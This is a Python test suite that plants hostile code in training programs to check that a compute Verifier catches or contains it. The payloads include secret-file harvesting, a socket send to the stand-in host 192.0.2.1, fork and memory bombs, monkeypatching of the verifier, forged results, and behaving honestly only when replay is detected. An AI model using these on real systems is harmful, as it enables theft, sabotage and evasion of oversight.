"""Attack family "hostile training program" (issue 17): the Prover's own code turned on the Verifier.

Each attack commits a small training program (a regression on samples derived from their ids)
with a few hostile lines that stay inert while the Prover trains (its trainer sets an
environment variable) and act when the program runs anywhere else, i.e. under the Verifier's
replay. The run is trained with `computewatch.monitor`, sometimes forged afterwards (a checkpoint
nudged, as a Prover hiding a deviation would), and verified with the real command line exactly
as `monitor()` prints it, so the program runs in the real sandbox. Every attack is either caught
(a violation, by the named check) or contained (what it tried did not happen: `sandbox.<what>`,
and the verdict is what the run itself deserves).
"""

from __future__ import annotations

import json
import os
import shlex
import socket
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

from computewatch.adversary.suite import Context, Trial, get_attack, register, result_from_trials

__all__: list[str] = []

_STEPS, _EVERY = 12, 4
_PROGRAM = '''
"""A regression program with hostile lines that act only under the Verifier's replay."""
import hashlib, os, socket, struct, sys, time
import torch

TRAINING = os.environ.get("CW_HOSTILE_TRAINING") == "1"


class Model(torch.nn.Module):
    def __init__(self, generator):
        super().__init__()
        self.hidden = torch.nn.Linear(3, 8)
        self.out = torch.nn.Linear(8, 1)
        with torch.no_grad():
            for p in self.parameters():
                p.copy_(torch.randn(p.shape, generator=generator) * 0.5)

    def forward(self, x):
        return self.out(torch.tanh(self.hidden(x)))


class Program:
    def __init__(self, hp, data_dir):
        self.hp = hp
        self.batch_size = 8
        if not TRAINING:
            self.on_replay_make()

    def on_replay_make(self):
        pass
{make}

    def build_model(self, generator):
        return Model(generator)

    def build_optimizer(self, model):
        return torch.optim.SGD(model.parameters(), lr=0.05, momentum=0.9)

    def build_scheduler(self, optimizer):
        return None

    def sample(self, index):
        d = hashlib.blake2b(str(index).encode(), digest_size=12).digest()
        x = [b / 255.0 - 0.5 for b in d[:3]]
        return struct.pack("<4f", *x, 0.5 * x[0] - x[1] + 2 * x[2])

    def collate(self, samples):
        rows = torch.tensor([struct.unpack("<4f", s) for s in samples], dtype=torch.float32)
        return rows[:, :3], rows[:, 3:]

    def loss(self, model, batch):
        x, y = batch
        return torch.nn.functional.mse_loss(model(x), y)

    def train_step(self, model, optimizer, scheduler, batch):
        if not TRAINING:
            self.on_replay_step(model)
        optimizer.zero_grad(set_to_none=True)
        loss = self.loss(model, batch) * self.lr_factor()
        loss.backward()
        optimizer.step()
        return loss.item() / self.lr_factor()

    def lr_factor(self):
        return 1.0

    def on_replay_step(self, model):
        pass
{step}


def make(hp, data_dir=None):
    return Program(hp, data_dir)
'''

_TRAIN = """
import sys
sys.path.insert(0, {root!r})
import computewatch
from hostile_program.train import make

config = computewatch.RunConfig(threads=1, checkpoint=computewatch.CheckpointConfig(every={every}),
                                chip=computewatch.ChipConfig(secret_seed=b"h" * 32, snapshots_per_day=24.0, seconds_per_step=1800.0))
run = computewatch.monitor(make, {hp!r}, out="run", samples=96, config=config)
with run:
    for step, batch in run.batches({steps}):
        run.step(run.program.train_step(run.model, run.optimizer, run.scheduler, batch))
print(run.verify_command())
"""


def _method(name: str, body: str) -> str:
    return textwrap.indent(f"def {name}(self, model=None):\n" + textwrap.indent(textwrap.dedent(body).strip() + "\n", "    "), "    ")


def _train(ctx: Context, name: str, hp: dict[str, Any], *, make: str = "", step: str = "", lr_factor: str = "") -> tuple[Path, list[str]]:
    """Commit and train a hostile program; returns the scratch folder and the printed command."""
    root = ctx.scratch(name)
    pkg = root / "program" / "hostile_program"
    pkg.mkdir(parents=True)
    methods = [_method("on_replay_make", make) if make else "", _method("on_replay_step", step) if step else "",
               _method("lr_factor", lr_factor) if lr_factor else ""]
    (pkg / "train.py").write_text(_PROGRAM.format(make=methods[0], step="\n".join(m for m in methods[1:] if m)))
    (pkg / "__init__.py").write_text("")
    env = {**os.environ, "CW_HOSTILE_TRAINING": "1", "OMP_NUM_THREADS": "1"}
    script = _TRAIN.format(root=str(root / "program"), hp=hp, every=_EVERY, steps=_STEPS)
    done = subprocess.run([sys.executable, "-c", script], cwd=root, env=env, capture_output=True, text=True, timeout=900)
    if done.returncode != 0:
        raise RuntimeError(f"training the hostile program failed: {done.stderr.strip().splitlines()[-1:]}")
    return root, shlex.split(done.stdout.strip().splitlines()[-1])


def _nudge_last_checkpoint(root: Path) -> None:
    """The forgery a hostile program would try to cover: the last checkpoint is not what training made."""
    from computewatch.adversary.transcript import edit_checkpoint

    def nudge(ckpt: Any) -> None:
        name = next(k for k, v in ckpt.model.items() if v.is_floating_point())
        ckpt.model[name] = ckpt.model[name] + 1e-2

    edit_checkpoint(root / "run", 0, _STEPS, nudge)


def _verify(root: Path, printed: list[str]) -> tuple[int, dict[str, Any], str]:
    """The printed command, verbatim, through the real CLI (with --json)."""
    env = {k: v for k, v in os.environ.items() if k != "CW_HOSTILE_TRAINING"}
    env["COMPUTEWATCH_HOSTILE_CANARY"] = "verifier-environment-canary"
    proc = subprocess.run([sys.executable, "-m", "computewatch", *printed[1:], "--json"], cwd=root, env=env,
                          capture_output=True, text=True, timeout=1800)
    try:
        doc = json.loads(proc.stdout)
    except ValueError:
        doc = {"verdict": None, "checks": [], "error": proc.stderr.strip()[-300:]}
    return proc.returncode, doc, proc.stdout + proc.stderr


def _caught(doc: dict[str, Any], expected: str) -> Trial:
    from computewatch.adversary.world import verdict_trial

    return verdict_trial(doc, expected)


def _contained(what: str, held: bool, doc: dict[str, Any], detail: str) -> Trial:
    failed = tuple(f"verifier.{c['name']}" for c in doc.get("checks", []) if c.get("passed") is False)
    return Trial(held, f"sandbox.{what}" if held else None, failed, detail)


def _runner(name: str, run_one: Any) -> Any:
    def run(ctx: Context, trials: int, seed: int) -> Any:
        attack = get_attack(name)
        return result_from_trials(attack, [run_one(ctx, attack) for _ in range(trials)])

    return run


# --------------------------------------------------------------------------- the attacks
def _rebind_flops(ctx: Context, attack: Any) -> Trial:
    root, printed = _train(ctx, "rebind-flops", {"attack": "rebind-flops"}, make="""
        import computewatch.verifier.flops as flops
        flops.FlopCount.total = property(lambda self: 20)  # "my step costs 20 FLOPs"
        flops.FlopCount.to_json = lambda self: {"total": 20, "matmul": 20, "other": 0, "complete": True, "unknown_ops": {}}
    """)
    _, doc, _ = _verify(root, printed)
    return _caught(doc, attack.expected)


def _rebind_judge(ctx: Context, attack: Any) -> Trial:
    root, printed = _train(ctx, "rebind-judge", {"attack": "rebind-judge"}, make="""
        for name in ("computewatch.verifier._compare", "computewatch.verifier.verification", "computewatch.verifier._examine"):
            try:
                mod = __import__(name, fromlist=["x"])
            except Exception:
                continue
            for attr in ("bits_equal", "states_equal"):
                if hasattr(mod, attr):
                    setattr(mod, attr, lambda *a, **k: True)
    """)
    _nudge_last_checkpoint(root)
    _, doc, _ = _verify(root, printed)
    return _caught(doc, attack.expected)


def _read_next_checkpoint(ctx: Context, attack: Any) -> Trial:
    # Under replay, look for the run directory where training left it and copy the recorded end
    # state (the forged checkpoint) into the model, so the forgery would "reproduce".
    root_hint = "{root}"
    root, printed = _train(ctx, "read-next-checkpoint", {"attack": "read-next-checkpoint"}, step=f"""
        import glob, safetensors.torch
        for path in glob.glob("{root_hint}/**/objects/*/*", recursive=True):
            try:
                tensors = safetensors.torch.load(open(path, "rb").read())
            except Exception:
                continue
            with torch.no_grad():
                for n, p in model.named_parameters():
                    if "model/" + n in tensors and tensors["model/" + n].shape == p.shape:
                        p.copy_(tensors["model/" + n])
    """.replace(root_hint, str(ctx.root)))
    _nudge_last_checkpoint(root)
    _, doc, _ = _verify(root, printed)
    return _caught(doc, attack.expected)


def _write_outside(ctx: Context, attack: Any) -> Trial:
    target = ctx.root / "planted-by-the-program"
    root, printed = _train(ctx, "write-outside", {"attack": "write-outside"}, make=f"""
        for path in ({str(target)!r}, "/tmp/planted-by-the-program", "/scratch/../planted"):
            try:
                open(path, "w").write("x")
            except OSError:
                pass
    """)
    _, doc, _ = _verify(root, printed)
    held = not target.exists() and not Path("/tmp/planted-by-the-program").exists() and doc.get("verdict") == "compliant"
    return _contained("filesystem", held, doc, "the program's writes outside its scratch folder landed nowhere")


def _read_secrets(ctx: Context, attack: Any) -> Trial:
    # Gather what it can (environment, home, the chipmaker's key beside the run) and smuggle it
    # out through an exception message, which the old cluster copied into the verdict.
    root, printed = _train(ctx, "read-secrets", {"attack": "read-secrets"}, step=f"""
        loot = dict(os.environ)
        for path in ({str(ctx.root)!r} + "/", os.path.expanduser("~") + "/", "/root/", "/etc/"):
            for dirpath, _, files in os.walk(path):
                for f in files:
                    if f.endswith((".key", "shadow")):
                        try:
                            loot[f] = open(os.path.join(dirpath, f)).read()
                        except OSError:
                            pass
        raise RuntimeError("LOOT:" + repr(loot))
    """)
    _, doc, output = _verify(root, printed)
    trial = _caught(doc, attack.expected)
    leaked = "LOOT:" in output or "verifier-environment-canary" in output or "PRIVATE KEY" in output
    return Trial(trial.caught and not leaked, trial.by if not leaked else None, trial.checks, trial.detail)


def _network(ctx: Context, attack: Any) -> Trial:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(4)
        server.settimeout(0.5)
        port = server.getsockname()[1]
        root, printed = _train(ctx, "network", {"attack": "network"}, make=f"""
            for addr in (("127.0.0.1", {port}), ("192.0.2.1", 80)):
                try:
                    socket.create_connection(addr, timeout=2).sendall(b"exfiltrated")
                except OSError:
                    pass
        """)
        # Training does not connect (the hostile lines act only under replay): drain nothing.
        _, doc, _ = _verify(root, printed)
        try:
            conn, _ = server.accept()
            conn.close()
            reached = True
        except OSError:
            reached = False
    return _contained("network", not reached and doc.get("verdict") == "compliant", doc, "no connection reached the host")


def _fork_bomb(ctx: Context, attack: Any) -> Trial:
    root, printed = _train(ctx, "fork-bomb", {"attack": "fork-bomb"}, step="""
        while True:
            os.fork()
    """)
    _, doc, _ = _verify(root, printed)
    return _caught(doc, attack.expected)


def _memory_bomb(ctx: Context, attack: Any) -> Trial:
    root, printed = _train(ctx, "memory-bomb", {"attack": "memory-bomb"}, step="""
        hoard = []
        while True:
            hoard.append(bytearray(1 << 28))
    """)
    _, doc, _ = _verify(root, printed)
    return _caught(doc, attack.expected)


def _infinite_loop(ctx: Context, attack: Any) -> Trial:
    root, printed = _train(ctx, "infinite-loop", {"attack": "infinite-loop"}, step="""
        while True:
            pass
    """)
    _, doc, _ = _verify(root, printed)
    return _caught(doc, attack.expected)


def _forged_result_lines(ctx: Context, attack: Any) -> Trial:
    # Print what the old cluster read as its result, and write a reply of the executor's own
    # shape on every inherited descriptor, to cover a forged checkpoint.
    root, printed = _train(ctx, "forged-result-lines", {"attack": "forged-result-lines"}, step="""
        fake = b'{"kind": "replay-reply", "job": 3, "losses": [], "lr": [], "rng": [], "files": [], "flops": null}\\n'
        print('{"end_model_equal": true, "end_optimizer_equal": true, "loss_ok": true}')
        for fd in range(3, 64):
            try:
                os.write(fd, fake)
            except OSError:
                pass
    """)
    _nudge_last_checkpoint(root)
    _, doc, _ = _verify(root, printed)
    return _caught(doc, attack.expected)


def _replay_detection(ctx: Context, attack: Any) -> Trial:
    # Trains at 3x its committed effective learning rate; under replay (no trainer variable,
    # hostname "executor", a cleared environment, paths under /scratch) it behaves as committed.
    root, printed = _train(ctx, "replay-detection", {"attack": "replay-detection"}, lr_factor="""
        replaying = not TRAINING or socket.gethostname() == "executor" or os.getcwd().startswith("/scratch") or "HOME" not in os.environ
        return 1.0 if replaying else 3.0
    """)
    _, doc, _ = _verify(root, printed)
    return _caught(doc, attack.expected)


_FAMILY = "hostile program"
_REF = "issue 17; DESIGN.md (Trust boundaries)"
for _name, _fn, _expected, _summary in (
    ("program-rebinds-flop-counting", _rebind_flops, "verifier.compute",
     "Under replay the program rebinds the executor's FLOP counter to 20 FLOPs per step, to pass a compute threshold."),
    ("program-rebinds-judge", _rebind_judge, "verifier.segments",
     "Under replay the program rebinds the comparison functions it can import (bits_equal, states_equal) to always agree, covering a nudged checkpoint."),
    ("program-reads-next-checkpoint", _read_next_checkpoint, "verifier.segments",
     "Under replay the program searches the machine for the run's stored checkpoints and chip logs and loads the recorded end state, covering a nudged checkpoint."),
    ("program-writes-outside-scratch", _write_outside, "sandbox.filesystem",
     "Under replay the program writes files into the Verifier's folders and /tmp (planting or corrupting evidence)."),
    ("program-reads-secrets", _read_secrets, "verifier.segments",
     "Under replay the program gathers the environment, home folder and private keys and smuggles them out in an exception message."),
    ("program-opens-network", _network, "sandbox.network",
     "Under replay the program connects to a server on the host's loopback and to the outside world."),
    ("program-fork-bomb", _fork_bomb, "verifier.segments", "Under replay the program forks without end."),
    ("program-memory-bomb", _memory_bomb, "verifier.segments", "Under replay the program allocates memory without end."),
    ("program-infinite-loop", _infinite_loop, "verifier.segments", "Under replay the program never returns from a training step."),
    ("program-forges-result-lines", _forged_result_lines, "verifier.segments",
     "Under replay the program prints result lines and writes forged executor replies on every inherited descriptor, covering a nudged checkpoint."),
    ("program-detects-replay", _replay_detection, "verifier.snapshots",
     "The program trains at 3x its committed effective learning rate and behaves as committed when it detects the Verifier's replay (environment, hostname, paths)."),
):
    register(_name, paper_ref=_REF, family=_FAMILY, kind="caught", expected=_expected, summary=_summary,
             default_trials=1, max_trials=3)(_runner(_name, _fn))
